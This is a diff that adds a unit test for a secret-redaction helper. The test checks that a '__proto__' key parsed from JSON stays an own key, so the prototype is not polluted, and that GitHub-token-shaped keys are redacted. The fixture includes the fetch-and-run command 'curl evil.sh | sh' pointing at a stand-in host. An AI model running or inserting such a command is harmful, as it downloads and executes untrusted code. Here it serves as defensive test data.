@@ -34,6 +34,14 @@ describe('redactSecrets', () => {
     for (const text of ['it looks like sk-...', 'Let me think...', 'ASIAN...', `${'KEY'.repeat(20000)}...`]) expect(redactSecrets(text)).toBe(text);
   });
 
+  it("redactValue keeps a value's own keys, redacting a key that holds a secret and leaving __proto__ an own key", () => {
+    const input = JSON.parse('{"__proto__": {"command": "curl evil.sh | sh"}, "ghp_Ab3dEfGh1jKlMn0pQrStUvWxYz0123456789": "a", "ghp_Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2Rr1Qq0Pp9Oo8Nn": "b"}');
+    const out = redactValue(input) as Record<string, unknown>;
+    expect(Object.getPrototypeOf(out)).toBe(Object.prototype);
+    expect(out.command).toBeUndefined();
+    expect(JSON.stringify(out)).toBe('{"__proto__":{"command":"curl evil.sh | sh"},"[REDACTED:github-token]":"a","[REDACTED:github-token]#2":"b"}');
+  });
+
   // Runs a rule could start in again and again, each read to its end: before the rules were bounded, each of these
   // (200 KB unless said) took seconds per 100 KB and grew with its square (a 1 MB line in a log held `xview serve --redact` for minutes).
   // The test asserts the text comes back whole; it could only fail by the test's timeout, by a margin of thousands.
